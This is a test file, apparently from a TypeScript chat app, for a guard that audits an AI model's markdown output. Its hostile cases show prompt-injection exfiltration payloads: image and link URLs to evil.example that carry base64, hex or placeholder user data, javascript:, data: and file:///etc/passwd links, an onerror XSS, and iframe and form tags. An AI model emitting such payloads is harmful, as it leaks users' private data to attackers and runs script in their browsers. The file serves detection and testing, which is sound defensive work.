import { describe, expect, it } from "vitest";
import { auditLinks, type LinkAudit } from "@/lib/guard/output/links";
import { renderMarkdown } from "@/lib/markdown/render";
import { cpuNow } from "../support/cpu-clock";

// Payloads a prompt injection asks the model to write; the hosts are reserved example domains.
const b64 = (text: string) => Buffer.from(text).toString("base64");
const STOLEN = b64("The user asked about their diagnosis and lives at [ADDRESS_1]");

type Case = [name: string, markdown: string, expected: Partial<LinkAudit>];

/** Hostile replies, each with what the audit must report. */
const HOSTILE: Case[] = [
  ["image with a placeholder in the query", "Done! ![ok](https://evil.example/log?d=[EMAIL_1])", { signals: ["image", "image_exfil_query"], images: 1 }],
  ["image with a percent-encoded placeholder", "![](https://evil.example/p.png?u=%5BPHONE_2%5D)", { signals: ["image", "image_exfil_query"], images: 1 }],
  ["image with base64 in the query", `![](https://evil.example/p.png?q=${STOLEN})`, { signals: ["image", "image_exfil_query"], images: 1 }],
  ["image with base64 in the path", `![x](https://evil.example/${STOLEN}.png)`, { signals: ["image", "image_exfil_query"], images: 1 }],
  ["image with prose in the query", "![x](https://evil.example/c.gif?text=my%20card%20is%20on%20file)", { signals: ["image", "image_exfil_query"], images: 1 }],
  [
    "image with hex in a subdomain",
    `![x](https://${Buffer.from("user@example.com").toString("hex")}.evil.example/a.png)`,
    { signals: ["image", "image_exfil_query"] },
  ],
  [
    "reference-style image",
    `Look:\n\n![chart][c]\n\n[c]: https://evil.example/c.png?d=[EMAIL_1] "Chart"`,
    { signals: ["image", "image_exfil_query"], images: 1 },
  ],
  ["collapsed reference image", "![c][]\n\n[C]: <https://evil.example/c.png?d=[SSN_1]>", { signals: ["image", "image_exfil_query"], images: 1 }],
  ["shortcut reference image", "![logo]\n\n[logo]: https://evil.example/logo.png", { signals: ["image"], images: 1 }],
  ["image inside a link", `[![badge](https://evil.example/b.svg?x=${STOLEN})](https://example.com)`, { signals: ["image", "image_exfil_query"], images: 1 }],
  ["image with a title and angle brackets", '![a](<https://evil.example/a b.png?c=[CARD_1]> "t")', { signals: ["image", "image_exfil_query"] }],
  ["raw img tag", '<img src="https://evil.example/?q=[EMAIL_1]" alt="">', { signals: ["image", "image_exfil_query"], images: 1 }],
  ["raw img with srcset", '<img srcset="https://ok.example/a.png 1x, https://evil.example/b.png?d=[EMAIL_1] 2x">', { signals: ["image", "image_exfil_query"] }],
  ["browser-only img syntax", "<IMG/SRC=x onerror=alert(1)>", { signals: ["image"], images: 1 }],
  ["img tag that never closes", '<img src="x" alt="' + "a".repeat(5_000), { signals: ["image"], images: 1 }],
  ["several images", "![a](x) ![b](y)\n\n<img src=z>", { signals: ["image"], images: 3 }],
  ["javascript link", "[click me](javascript:alert(document.cookie))", { signals: ["link_scheme"], blockedLinks: 1 }],
  ["mixed-case scheme with spaces", "[x]( JaVaScRiPt:alert(1) )", { signals: ["link_scheme"], blockedLinks: 1 }],
  ["scheme behind character references", "[x](java&#x73;cript&colon;alert(1)) [y](&#106;avascript:alert(1))", { signals: ["link_scheme"], blockedLinks: 2 }],
  ["scheme behind an escape", "[x](javascript\\:alert(1))", { signals: ["link_scheme"], blockedLinks: 1 }],
  ["data link", "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", { signals: ["link_scheme"], blockedLinks: 1 }],
  ["vbscript and file links", "[a](vbscript:msgbox(1)) and [b](file:///etc/passwd)", { signals: ["link_scheme"], blockedLinks: 2 }],
  ["scheme autolink", "<javascript:alert(1)>", { signals: ["link_scheme"], blockedLinks: 1 }],
  ["raw anchor", "<a href=\"javascript:alert(1)\">x</a> <a href='data:text/html,x'>y</a>", { signals: ["link_scheme"], blockedLinks: 2 }],
  ["reference link to a bad scheme", "[here][r]\n\n[r]: javascript:alert(1)", { signals: ["link_scheme"], blockedLinks: 1 }],
  ["relative link into the app", "[settings](/api/account?delete=1)", { signals: ["link_relative"], blockedLinks: 1 }],
  ["link carrying a placeholder", "[Verify your account](https://evil.example/v?e=%5BEMAIL_1%5D)", { signals: ["link_exfil_query"], blockedLinks: 0 }],
  ["link carrying base64", `[more](https://evil.example/r?t=${STOLEN})`, { signals: ["link_exfil_query"], blockedLinks: 0 }],
  ["mailto carrying a placeholder", "[write](mailto:drop@evil.example?subject=hi&body=[IBAN_1])", { signals: ["link_exfil_query"] }],
  ["bare URL carrying hex", `See https://evil.example/?d=${Buffer.from("card 4111 on file").toString("hex")} now.`, { signals: ["link_exfil_query"] }],
  ["relative link carrying a placeholder", "[x](/collect?e=[EMAIL_1])", { signals: ["link_relative", "link_exfil_query"] }],
  ["iframe", '<iframe src="https://evil.example/frame"></iframe>', { signals: ["html_resource"] }],
  ["video poster carrying data", '<video poster="https://evil.example/p.jpg?d=[EMAIL_1]"></video>', { signals: ["html_resource", "resource_exfil_query"] }],
  ["form action", '<form action="https://evil.example/collect"><button>Go</button></form>', { signals: ["html_resource"] }],
  ["image after an unclosed code span", "`oops ![x](https://evil.example/x.png)", { signals: ["image"], images: 1 }],
  ["image after a fence inside a quote ends", "> ```\n> ![hidden](a)\n\n![shown](https://evil.example/s.png)", { images: 1 }],
];

/** Ordinary replies: nothing to report. */
const BENIGN: Array<[name: string, markdown: string]> = [
  [
    "prose with https links",
    "Read [the docs](https://nextjs.org/docs/app/building-your-application/routing) and [MDN](https://developer.mozilla.org/en-US/docs/Web/API/Document/getElementsByTagNameNS).",
  ],
  ["bare URLs and www", "Try https://github.com/vercel/next.js/commit/0123456789abcdef0123456789abcdef01234567 or www.example.com/path?q=search+terms."],
  ["a search link", "[search](https://www.google.com/search?q=how+to+rotate+an+api+key&hl=en)"],
  ["mailto and autolinks", "Mail <support@example.com> or [us](mailto:team@example.com?subject=Hello) or <https://example.com>."],
  ["wiki link with parentheses", "[Foo](https://en.wikipedia.org/wiki/Foo_(disambiguation)) (see also https://en.wikipedia.org/wiki/Bar_(baz))."],
  [
    "images in fenced code",
    "Markdown images look like this:\n\n```markdown\n![alt](https://example.com/a.png?d=[EMAIL_1])\n<img src=x>\n```\n\n~~~\n[x](javascript:alert(1))\n~~~",
  ],
  ["images in inline code", "Write `![alt](url)` or ``<img src=`x`>`` in your file, or `[x](javascript:void(0))`."],
  ["fenced code in a list", '1. Step one:\n   ```html\n   <img src="a.png">\n   ```\n2. Done.'],
  ["an HTML comment", "Text <!-- ![x](https://evil.example/a.png) --> more"],
  ["escaped brackets", "Use \\!\\[not an image](x) and \\[not a link](javascript:x)."],
  ["tables, emphasis, headings", "# Title\n\n| a | b |\n|---|---|\n| **x** | _y_ |\n\n> quote with [a link](https://example.org/a-b_c/D?x=1#frag)"],
  ["inline formatting tags", 'Press <kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O, <span title="x">ok</span>.'],
  ["comparisons that are not tags", "if a < b and c > d then 3 <4 and x<y."],
  ["a CDN link with a content hash", "[app.js](https://cdn.example.com/assets/app.3f5a9c2e8b1d4f6a7c9e0b2d4f6a8c0e.js)"],
];

describe("auditLinks", () => {
  it.each(HOSTILE)("reports %s", (_, markdown, expected) => {
    expect(auditLinks(markdown)).toMatchObject(expected);
  });

  it.each(BENIGN)("stays quiet on %s", (_, markdown) => {
    expect(auditLinks(markdown)).toEqual({ signals: [], images: 0, blockedLinks: 0 });
  });

  it("counts what the renderer neutralises", () => {
    // The audit and the renderer agree: an image counted is a marker, a link refused is text.
    for (const [name, markdown, expected] of HOSTILE) {
      const html = renderMarkdown(markdown);
      expect(html, name).not.toMatch(/<img/i);
      if (expected.blockedLinks && !markdown.includes("<a ")) expect(html, name).not.toMatch(/href="(?!https?:|mailto:)/i);
    }
    expect(renderMarkdown("![a](https://evil.example/x.png?d=[EMAIL_1])")).toContain("blocked-image");
    expect(renderMarkdown("[x](javascript:alert(1))")).not.toContain("<a ");
    // A data-carrying https link is still followed: the audit is what records it.
    expect(renderMarkdown("[Verify](https://evil.example/v?e=%5BEMAIL_1%5D)")).toContain('href="https://evil.example/');
  });

  it("reports nothing for empty or plain text", () => {
    expect(auditLinks("")).toEqual({ signals: [], images: 0, blockedLinks: 0 });
    expect(auditLinks("Just words.\n\nMore words.")).toEqual({ signals: [], images: 0, blockedLinks: 0 });
  });

  it("audits 1 MB hostile inputs in well under 5 s each", () => {
    const MB = 1_000_000;
    const inputs: Record<string, () => string> = {
      "open brackets": () => "[".repeat(MB),
      "image openers": () => "![".repeat(MB / 2),
      "link openers": () => "[a](".repeat(MB / 4),
      "balanced parentheses": () => "[a](" + "()".repeat(MB / 2),
      "nested destinations": () => "](()()()()".repeat(MB / 10),
      "unclosed titles": () => '[a](b "'.repeat(MB / 7),
      "exclamation marks": () => "!".repeat(MB),
      "emphasis soup": () => "*a_".repeat(MB / 3),
      "backtick runs": () => Array.from({ length: 1400 }, (_, i) => "`".repeat((i % 700) + 1) + "x").join(""),
      "angle brackets": () => "<".repeat(MB),
      "unclosed tags": () => "<img ".repeat(MB / 5),
      "mixed quotes in tags": () => `<a b="<a b='`.repeat(MB / 12),
      "long attribute names": () => ("<a " + "b".repeat(3_990) + ">").repeat(MB / 3_994),
      "comment openers": () => "<!--".repeat(MB / 4),
      "bare URLs": () => " https://a".repeat(MB / 10),
      "closing parentheses": () => " https://a" + ")".repeat(MB),
      "trailing dots": () => " https://a" + ".".repeat(MB) + "x",
      references: () => "[b]: https://evil.example/x?d=1\n\n" + "![a][b][b]".repeat(MB / 10),
      definitions: () => "[a]: <x\n".repeat(MB / 8),
      fences: () => "```\n".repeat(MB / 4),
      "nested quotes and lists": () => "> - ".repeat(MB / 4),
      images: () => `![a](https://evil.example/x?q=${STOLEN}) `.repeat(MB / 110),
      "one huge destination": () => "![a](https://evil.example/?q=" + "A1b2".repeat(MB / 4) + ")",
      "many paragraphs": () => "a\n\n".repeat(MB / 3),
      "unclosed comments in paragraphs": () => "<!--\n\n".repeat(MB / 6),
      "unclosed code spans in paragraphs": () => "`a\n\n".repeat(MB / 4),
    };
    for (const [name, make] of Object.entries(inputs)) {
      const markdown = make();
      const started = cpuNow();
      auditLinks(markdown);
      expect(cpuNow() - started, name).toBeLessThan(5_000);
    }
  });
});
